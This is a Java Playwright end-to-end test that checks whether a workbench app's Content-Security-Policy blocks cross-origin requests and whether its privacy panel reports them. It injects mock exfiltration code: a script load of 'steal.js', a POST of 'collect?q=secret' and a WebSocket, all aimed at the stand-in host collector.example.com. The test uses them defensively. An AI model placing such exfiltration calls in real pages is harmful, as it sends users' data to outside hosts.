package dev.locara.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Worker;
import com.microsoft.playwright.options.AriaRole;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The Content-Security-Policy, tried from inside the running workbench as a script that got in would
 * try it: loading a script from another origin, fetching from one, opening a WebSocket to one, in the
 * page and in the engine's worker. Each is refused by the browser before anything is sent (the
 * loopback check, {@link LoopbackOnly}, would fail this test otherwise), and the privacy panel lists
 * each refused attempt with the rule that refused it.
 */
class CspTest {
    private static final String ELSEWHERE = "https://collector.example.com";

    @Test
    @SuppressWarnings("unchecked")
    void scriptsAndConnectionsToAnotherOriginAreBlockedAndShown() {
        try (Browser browser = new Browser(true)) {
            Browser.Session s = browser.openWorkbench();
            Page page = s.page;
            Map<String, Object> tried = (Map<String, Object>) s.call("async () => {"
                    + " const script = await new Promise(done => { const e = document.createElement('script');"
                    + " e.src = '" + ELSEWHERE + "/steal.js'; e.onload = () => done('loaded'); e.onerror = () => done('refused');"
                    + " document.head.appendChild(e); });"
                    + " let fetched; try { await fetch('" + ELSEWHERE + "/collect?q=secret', {method: 'POST', body: 'x'});"
                    + " fetched = 'sent'; } catch (e) { fetched = e.name; }"
                    + " const socket = await new Promise(done => { let w; try { w = new WebSocket('wss://collector.example.com/ws'); }"
                    + " catch (e) { done('threw ' + e.name); return; } w.onopen = () => done('open'); w.onerror = () => done('refused'); });"
                    + " return {script, fetched, socket}; }");
            assertEquals("refused", tried.get("script"), tried.toString());
            assertEquals("TypeError", tried.get("fetched"), "fetch rejects when the policy refuses it: " + tried);
            assertTrue(!"open".equals(tried.get("socket")), tried.toString());

            // The engine's worker runs under the same policy (the server sends it with the worker's script too).
            Worker engine = GpuLostTest.engineWorker(page);
            Object fromWorker = engine.evaluate("async () => { try { await fetch('" + ELSEWHERE + "/from-worker');"
                    + " return 'sent'; } catch (e) { return e.name; } }");
            assertEquals("TypeError", fromWorker);

            page.waitForFunction("() => / · [4-9] blocked$/.test(document.querySelector('#privacy-line').textContent)");
            assertTrue(page.textContent("#privacy-line").startsWith("0 requests left this machine"),
                    page.textContent("#privacy-line"));
            page.click("#privacy-line");
            Locator dialog = page.getByRole(AriaRole.DIALOG);
            String blocked = dialog.locator(".blocked-summary").getAttribute("data-blocked");
            assertTrue(Integer.parseInt(blocked) >= 4, dialog.textContent());
            assertEquals("0", dialog.locator(".privacy-summary").getAttribute("data-left"));
            for (List<String> row : List.of(List.of("steal.js", "page", "script-src"),
                    List.of("collect?q=secret", "page", "connect-src"), List.of("wss://collector.example.com/ws", "page", "connect-src"),
                    List.of("from-worker", "engine worker", "connect-src"))) {
                Locator tr = dialog.locator("table.blocked tr").filter(new Locator.FilterOptions().setHasText(row.get(0)));
                assertTrue(tr.count() > 0, row.get(0) + " is listed as blocked: " + dialog.textContent() + s.log());
                String text = tr.first().textContent();
                assertTrue(text.contains(row.get(1)) && text.contains(row.get(2)), row + " in: " + text);
            }
            ChatTest.shot(page, "8-privacy-blocked");
        }
    }
}
